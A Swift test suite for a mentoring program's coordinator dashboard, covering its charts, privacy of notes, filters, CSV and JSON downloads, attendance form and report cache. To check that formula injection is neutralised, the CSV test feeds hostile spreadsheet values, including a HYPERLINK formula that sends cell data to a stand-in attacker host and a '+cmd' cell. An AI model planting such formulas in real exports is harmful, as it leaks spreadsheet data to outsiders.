import Foundation
import Hummingbird
import MentorCore
import MentorStore
import Testing

@testable import MentorServer

/// The coordinators' dashboard, its downloads and its attendance form; the charts it shares with
/// `mentor report --format html`.
struct DashboardTests {
    static let dashboard = "/programs/one-to-one"
    static let coordinator = "pat.quinn@example.org"
    static let day = CalendarDate("2027-06-20")!

    /// The example served as of `day`, with a history: ruiz-lin meets every month, rates its
    /// check-in 4 and achieves a goal; brandt-aziz meets twice, misses two, and its mentee leaves.
    /// Private notes, answers and the exit reason carry markers a coordinator must never see.
    static func fixture() async throws -> ServerFixture {
        var fixture = try ServerFixture()
        fixture.configuration.today = day
        let served = fixture.programs[0]
        let program = served.program
        let ruiz = try #require(program.group("ruiz-lin"))
        let brandt = try #require(program.group("brandt-aziz"))
        let journal = served.journal
        for (meeting, date) in ["2027-01-11", "2027-02-08", "2027-03-08", "2027-04-12", "2027-05-10", "2027-06-14"].enumerated() {
            _ = try await journal.logMeeting(
                group: ruiz, meeting: meeting + 1, date: CalendarDate(date)!,
                notes: "PRIVATE-NOTE-\(meeting + 1)")
        }
        _ = try await journal.setGoal(group: ruiz, text: "Lead a street-repair project", date: CalendarDate("2027-01-11")!)
        _ = try await journal.setGoal(group: ruiz, text: "Present to the council", date: CalendarDate("2027-02-08")!)
        try await journal.changeGoal(group: ruiz, goal: "g1", to: .achieved, date: CalendarDate("2027-04-12")!)
        try await journal.checkIn(group: ruiz, by: "e230", rating: 4, answers: ["SECRET-ANSWER"], date: CalendarDate("2027-06-14")!)
        _ = try await journal.logMeeting(group: brandt, meeting: 1, date: CalendarDate("2027-01-21")!)
        _ = try await journal.logMeeting(group: brandt, meeting: 2, date: CalendarDate("2027-02-18")!)
        _ = try await journal.logMeeting(group: brandt, meeting: 3, held: false, date: CalendarDate("2027-03-18")!)
        _ = try await journal.logMeeting(group: brandt, meeting: 4, held: false, date: CalendarDate("2027-04-15")!)
        _ = try await journal.exit(group: brandt, by: "e260", reason: "SECRET-REASON", date: CalendarDate("2027-05-02")!)
        return fixture
    }

    static let secrets = ["PRIVATE-NOTE", "SECRET-ANSWER", "SECRET-REASON"]

    @Test("the dashboard draws the five charts, each with a title, a description and its numbers as a table")
    func charts() async throws {
        let fixture = try await Self.fixture()
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            let page = try await client.get(Self.dashboard, cookies: session.cookie)
            #expect(page.status == .ok)
            for id in ["meetings", "at-risk", "ratings", "attendance", "goals"] {
                #expect(page.body.contains("<figure class=\"chart\" id=\"chart-\(id)\">"), "chart \(id)")
                #expect(page.body.contains("aria-labelledby=\"chart-\(id)-title chart-\(id)-desc\""), "chart \(id) is labelled")
                #expect(page.body.contains("<title id=\"chart-\(id)-title\">"), "chart \(id) has a title")
                #expect(page.body.contains("<desc id=\"chart-\(id)-desc\">"), "chart \(id) has a description")
            }
            #expect(page.body.components(separatedBy: "<details><summary>The numbers as a table</summary>").count == 6)
            // The numbers are the report's: ruiz-lin held its 6 meetings; brandt-aziz 2 of the 4 due before it ended
            // (nothing is due after), so June has ruiz-lin's one.
            #expect(page.body.contains("8 of 10 meetings planned so far were held"))
            #expect(
                page.body.contains(
                    "<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr><tr><th scope=\"row\">2027-05</th><td>1</td><td>1</td></tr>"
                ))
            #expect(page.body.contains("<tr><th scope=\"row\">2027-06</th><td>1</td><td>1</td></tr>"))
            // Goals by month: two set by February's end, one achieved by April's.
            #expect(page.body.contains("<tr><th scope=\"row\">2027-02</th><td>2</td><td>0</td></tr>"))
            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr>"))
            // One rating of 4.
            #expect(page.body.contains("<tr><th scope=\"row\">4</th><td>1</td></tr>"))
            // brandt-aziz missed March and April: at risk at April's end (2 active), ended in May (1 active).
            #expect(page.body.contains("<tr><th scope=\"row\">2027-04</th><td>2</td><td>1</td></tr>"))
            #expect(page.body.contains("<tr><th scope=\"row\">2027-05</th><td>1</td><td>0</td></tr>"))
        }
    }

    @Test("a coordinator reaches no private note, answer or exit reason from the dashboard: every link followed")
    func privacyOnEveryPage() async throws {
        let fixture = try await Self.fixture()
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            var seen: Set<String> = []
            var queue = ["/", Self.dashboard]
            while let path = queue.popLast() {
                guard seen.insert(path).inserted, seen.count < 60 else { continue }
                let page = try await client.get(path, cookies: session.cookie)
                #expect(page.status == .ok, "GET \(path)")
                for secret in Self.secrets { #expect(!page.body.contains(secret), "\(secret) on \(path)") }
                for link in Self.links(in: page.body) where link.hasPrefix("/programs/") && !seen.contains(link) {
                    queue.append(link)
                }
            }
            for path in [
                "/programs/one-to-one/report.json", "/programs/one-to-one/report.csv",
                "/programs/one-to-one/groups/ruiz-lin", "/programs/one-to-one/groups/brandt-aziz",
            ] {
                #expect(seen.contains(path), "the dashboard links to \(path)")
            }
            // And the members themselves still see their own notes: the markers are really recorded.
            let member = try await client.signIn("sam.lin@example.org")
            #expect(try await client.get("/programs/one-to-one/groups/ruiz-lin", cookies: member.cookie).body.contains("PRIVATE-NOTE-1"))
        }
    }

    /// The `href` values of a page, entities decoded.
    static func links(in html: String) -> [String] {
        html.components(separatedBy: "href=\"").dropFirst().compactMap { $0.split(separator: "\"", maxSplits: 1).first }
            .map { $0.replacingOccurrences(of: "&amp;", with: "&").replacingOccurrences(of: "&#61;", with: "=") }
            .map { $0.split(separator: "#", maxSplits: 1).first.map(String.init) ?? $0 }
    }

    @Test("filters and sorting: at risk, ended, by mentor, by share held")
    func filters() async throws {
        let fixture = try await Self.fixture()
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            func groups(_ query: String) async throws -> [String] {
                let page = try await client.get(Self.dashboard + query, cookies: session.cookie)
                #expect(page.status == .ok)
                let table = page.body.components(separatedBy: "<tbody>").dropFirst().first { $0.contains("/groups/") } ?? ""
                return table.components(separatedBy: "/programs/one-to-one/groups/").dropFirst()
                    .compactMap { $0.split(separator: "\"").first.map(String.init) }
            }
            #expect(try await groups("") == ["ruiz-lin", "brandt-aziz"])
            #expect(try await groups("?show=ended") == ["brandt-aziz"])
            #expect(try await groups("?show=on-track") == ["ruiz-lin"])
            #expect(try await groups("?show=at-risk") == [])
            #expect(try await groups("?mentor=e150") == ["brandt-aziz"])
            #expect(try await groups("?mentor=leah") == ["brandt-aziz"], "a name's part, in any case, picks its groups")
            #expect(try await groups("?mentor=nobody") == [])
            #expect(try await groups("?sort=held") == ["brandt-aziz", "ruiz-lin"])
            #expect(
                try await groups("?show=nonsense&sort=%3Cscript%3E&page=-4") == ["ruiz-lin", "brandt-aziz"], "unknown values fall back")
        }
    }

    @Test("a program of many mentors: the mentor filter is a text field (part of a name or an id), not a menu of every name")
    func manyMentors() async throws {
        let count = DashboardQuery.mentorMenuLimit + 1
        var text = "program: Many\ntype: one-to-one\nstarts: 2027-01-11\npeople:\n"
        for index in 0..<count {
            text +=
                "  - { id: m\(index), name: Mentor Number\(index), grade: 13 }\n  - { id: e\(index), name: Mentee \(index), grade: 9 }\n"
        }
        text += "coordinators:\n  - { id: c1, name: Pat Quinn, email: pat.quinn@example.org }\ngroups:\n"
        for index in 0..<count { text += "  - { id: g\(index), mentor: m\(index), mentees: [e\(index)] }\n" }
        let fixture = try ServerFixture(examples: [], programs: ["many": text])
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            let page = try await client.get("/programs/many", cookies: session.cookie)
            #expect(page.status == .ok)
            #expect(page.body.contains(#"<input type="search" name="mentor" value="""#))
            #expect(!page.body.contains("<option value=\"m1\">"), "no menu of every mentor")
            let picked = try await client.get("/programs/many?mentor=number42", cookies: session.cookie)
            #expect(picked.body.contains("/programs/many/groups/g42\"") && !picked.body.contains("/programs/many/groups/g41\""))
            #expect(picked.body.contains(#"name="mentor" value="number42""#), "the field keeps what was typed")
        }
    }

    @Test("report.json is the report; report.csv has a row per group and neutralises formulas")
    func downloads() async throws {
        let fixture = try await Self.fixture()
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            let json = try await client.get(Self.dashboard + "/report.json", cookies: session.cookie)
            #expect(json.status == .ok)
            #expect(json.headers[.contentType] == "application/json; charset=utf-8")
            let report = try JSONDecoder().decode(ProgramReport.self, from: Data(json.body.utf8))
            #expect(report.groups.map(\.group) == ["ruiz-lin", "brandt-aziz"])
            #expect(report.groups[0].held == 6 && report.groups[1].exitBy == "Noor Aziz")
            #expect(report.groups.allSatisfy { $0.notes == nil && $0.answers == nil && $0.exitReason == nil })
            let csv = try await client.get(Self.dashboard + "/report.csv", cookies: session.cookie)
            #expect(csv.headers[.contentType] == "text/csv; charset=utf-8")
            #expect(csv.headers[.contentDisposition] == "attachment; filename=\"one-to-one-report.csv\"")
            let lines = csv.body.components(separatedBy: "\r\n").filter { !$0.isEmpty }
            #expect(lines.count == 3)
            #expect(lines[0].hasPrefix("group,members,status,"))
            #expect(lines[2].hasPrefix("brandt-aziz,Leah Brandt,ended early,"))
        }
        // Formula injection: text cells that a spreadsheet would run are neutralised; numbers are not.
        var report = try await Self.fixture().test { client in
            let session = try await client.signIn(Self.coordinator)
            return try JSONDecoder().decode(
                ProgramReport.self,
                from: Data(
                    try await client.get(
                        Self.dashboard + "/report.json",
                        cookies: session.cookie
                    ).body.utf8))
        }
        var group = try #require(report.groups.first)
        group.members = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "@SUM(1)", " -2+3", "+cmd"]
        group.group = "=1+1"
        report.groups = [group]
        let row = ReportRenderer.csv(report).components(separatedBy: "\r\n")[1]
        #expect(row.hasPrefix("'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1); @SUM(1);  -2+3; +cmd\",on track,"))
    }

    @Test("a coordinator records who came to an event; a member can't; bad names are refused and nothing is recorded")
    func attendance() async throws {
        let fixture = try await Self.fixture()
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            let action = Self.dashboard + "/events/kickoff/attendance"
            let before = try await client.get(Self.dashboard, cookies: session.cookie)
            #expect(before.body.contains("action=\"\(action)\""))
            #expect(before.body.contains("4 invited; attendance not recorded yet."))
            let bad = try await client.post(
                action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "nobody")],
                cookies: session.cookie)
            #expect(bad.status == .unprocessableContent)
            #expect(
                bad.body.contains("&#39;nobody&#39; is not one of the program&#39;s people") || bad.body.contains("'nobody' is not one"))
            #expect(try await fixture.programs[0].journal.attendance().isEmpty)
            let forged = try await client.post(action, [("csrf", "forged"), ("attendees", "e100")], cookies: session.cookie)
            #expect(forged.status == .forbidden)
            let member = try await client.signIn("dana.ruiz@example.org")
            let byMember = try await client.post(action, [("csrf", member.csrf), ("attendees", "e100")], cookies: member.cookie)
            #expect(byMember.status == .notFound)
            #expect(try await fixture.programs[0].journal.attendance().isEmpty)
            let good = try await client.post(
                action, [("csrf", session.csrf), ("attendees", "e100"), ("attendees", "e230")],
                cookies: session.cookie)
            #expect(good.status == .seeOther)
            #expect(good.headers[.location] == Self.dashboard + "?recorded=kickoff#event-kickoff")
            #expect(try await fixture.programs[0].journal.attendance()["kickoff"] == ["e100", "e230"])
            let after = try await client.get(Self.dashboard + "?recorded=kickoff", cookies: session.cookie)
            #expect(after.body.contains("2 of 4 came: Dana Ruiz, Sam Lin."))
            #expect(after.body.contains("Attendance at Program kickoff recorded."))
        }
    }

    @Test(
        "the dashboard follows the journal: what another writer records shows once the report's spacing is up (the view before says when its figures were made), the same as a full read",
        .timeLimit(.minutes(1)))
    func freshAfterWrites() async throws {
        var configured = try await Self.fixture()
        configured.configuration.reportSpacing = .seconds(3)
        let fixture = configured
        try await fixture.test { client in
            let session = try await client.signIn(Self.coordinator)
            let made = ContinuousClock.now // the first report is made after this
            let first = try await client.get(Self.dashboard, cookies: session.cookie)
            #expect(first.body.contains("By 2027-06, 2 goals were set and 1 achieved."))
            #expect(!first.body.contains("These figures were made at"))
            #expect(try await client.get(Self.dashboard, cookies: session.cookie).body == first.body, "the same journal, the same page")
            // Another server (or the CLI) on the same journal records a goal for ruiz-lin.
            let ruiz = try #require(fixture.programs[0].program.group("ruiz-lin"))
            _ = try await fixture.programs[0].journal.setGoal(group: ruiz, text: "Map the district", date: CalendarDate("2027-06-18")!)
            let soon = try await client.get(Self.dashboard, cookies: session.cookie)
            if ContinuousClock.now - made < .seconds(3) { // a very slow machine may have taken longer
                #expect(soon.body.contains("By 2027-06, 2 goals were set and 1 achieved."))
                #expect(soon.body.contains("These figures were made at"))
            }
            var second = soon
            while !second.body.contains("By 2027-06, 3 goals were set") && ContinuousClock.now - made < .seconds(30) {
                try await Task.sleep(for: .milliseconds(200))
                second = try await client.get(Self.dashboard, cookies: session.cookie)
            }
            #expect(second.body.contains("By 2027-06, 3 goals were set and 1 achieved."))
            #expect(ContinuousClock.now - made >= .seconds(3), "no new report before the spacing is up")
            #expect(!second.body.contains("These figures were made at"))
            // Only ruiz-lin was folded again; the report is the one a full read of the journal makes.
            _ = try await fixture.programs[0].journal.addAction(
                group: ruiz, text: "Walk the route", due: CalendarDate("2027-06-01")!,
                date: CalendarDate("2027-05-20")!)
            let json = try await client.get(Self.dashboard + "/report.json", cookies: session.cookie)
            let cached = try JSONDecoder().decode(ProgramReport.self, from: Data(json.body.utf8))
            let full = try await fixture.programs[0].journal.report(today: Self.day)
            #expect(cached == full)
            #expect(cached.groups[0].actionsOverdue == 1)
        }
    }

    /// Lets folds through one at a time, when the test says so.
    actor Gate {
        private var permits = 0
        private var waiters: [CheckedContinuation<Void, Never>] = []
        var waiting: Int { waiters.count }

        func pass() async {
            if permits > 0 {
                permits -= 1
                return
            }
            await withCheckedContinuation { waiters.append($0) }
        }

        func allow() {
            if waiters.isEmpty { permits += 1 } else { waiters.removeFirst().resume() }
        }
    }

    @Test(
        "while a newer report is being made, a dashboard gets the last one, marked; downloads and attendance wait for the new one",
        .timeLimit(.minutes(1)))
    func earlierWhileMaking() async throws {
        let fixture = try await Self.fixture()
        let served = fixture.programs[0]
        let gate = Gate()
        let cache = ReportCache(spacing: .zero, beforeFold: { await gate.pass() })
        let ruiz = try #require(served.program.group("ruiz-lin"))
        await gate.allow()
        let first = try await cache.report(for: served, today: Self.day, acceptEarlier: true)
        #expect(!first.isEarlier)

        _ = try await served.journal.addAction(group: ruiz, text: "Walk the route", due: CalendarDate("2027-06-01")!)
        let waiting = Task { try await cache.report(for: served, today: Self.day) } // exact: held back at the gate
        while await gate.waiting == 0 { try await Task.sleep(for: .milliseconds(5)) }
        let meanwhile = try await cache.report(for: served, today: Self.day, acceptEarlier: true)
        #expect(meanwhile.isEarlier)
        #expect(meanwhile.report == first.report)
        #expect(meanwhile.at == first.at)
        let page = DashboardPage(served: served, made: meanwhile, query: DashboardQuery([:]), csrf: "t").values()
        let html = try PageTemplates(overrides: nil).render("dashboard", page)
        #expect(html.contains("These figures were made at \(DashboardPage.time(first.at)). Newer records are counted every few seconds"))

        await gate.allow()
        let made = try await waiting.value
        #expect(!made.isEarlier)
        #expect(made.report == (try await served.journal.report(today: Self.day)))
        #expect(made.report != first.report, "the action is counted")
        let after = try await cache.report(for: served, today: Self.day, acceptEarlier: true)
        #expect(!after.isEarlier)
        #expect(after.report == made.report)

        // Nothing being made: a request that accepts an earlier report gets it and starts a new one.
        _ = try await served.journal.addAction(group: ruiz, text: "Map the district", due: CalendarDate("2027-06-02")!)
        let next = try await cache.report(for: served, today: Self.day, acceptEarlier: true)
        #expect(next.isEarlier)
        #expect(next.report == made.report)
        while await gate.waiting == 0 { try await Task.sleep(for: .milliseconds(5)) } // the new one was started
        await gate.allow()
        let current = try await cache.report(for: served, today: Self.day)
        #expect(current.report == (try await served.journal.report(today: Self.day)))
        #expect(current.report != made.report, "the second action is counted")
        let shown = try await cache.report(for: served, today: Self.day, acceptEarlier: true)
        #expect(!shown.isEarlier && shown.at == current.at, "the new report, made once")
    }

    @Test("the cache's report is a full read's on every day, after writes and after attendance")
    func cacheAcrossDays() async throws {
        let fixture = try await Self.fixture()
        let served = fixture.programs[0]
        let cache = ReportCache()
        let ruiz = try #require(served.program.group("ruiz-lin"))
        for day in ["2027-03-01", "2027-03-02", "2027-08-15", "2027-08-15"] {
            #expect(
                try await cache.report(for: served, today: CalendarDate(day)!).report
                    == (try await served.journal.report(today: CalendarDate(day)!)))
        }
        _ = try await served.journal.addAction(group: ruiz, text: "Walk the route", due: CalendarDate("2027-08-01")!)
        try await served.journal.recordAttendance(event: "kickoff", attendees: ["e150"])
        for day in ["2027-08-15", "2027-08-16"] {
            #expect(
                try await cache.report(for: served, today: CalendarDate(day)!).report
                    == (try await served.journal.report(today: CalendarDate(day)!)))
        }
        #expect(try await cache.report(for: served, today: CalendarDate("2027-08-16")!).report.overview?.events.first?.attended == 1)

        // Continued with what was recorded since (exactly once), and read whole after a void.
        let day = CalendarDate("2027-08-16")!
        for text in ["Draft the plan", "Book the room"] {
            _ = try await served.journal.addAction(group: ruiz, text: text, due: CalendarDate("2027-07-01")!)
            let report = try await cache.report(for: served, today: day).report
            #expect(report == (try await served.journal.report(today: day)))
        }
        let overdue = try await cache.report(for: served, today: day).report.groups.first { $0.group == "ruiz-lin" }?.actionsOverdue
        let action = try #require(try await served.journal.ledger(of: ruiz).events.last { $0.group == ruiz.id })
        try await served.journal.record(
            [served.journal.event(.void(VoidRecord(event: action.id, reason: "booked already")), group: ruiz, date: day)],
            after: try await served.journal.ledger(of: ruiz))
        let afterVoid = try await cache.report(for: served, today: day).report
        #expect(afterVoid == (try await served.journal.report(today: day)))
        #expect(afterVoid.groups.first { $0.group == "ruiz-lin" }?.actionsOverdue == overdue.map { $0 - 1 })
    }
}
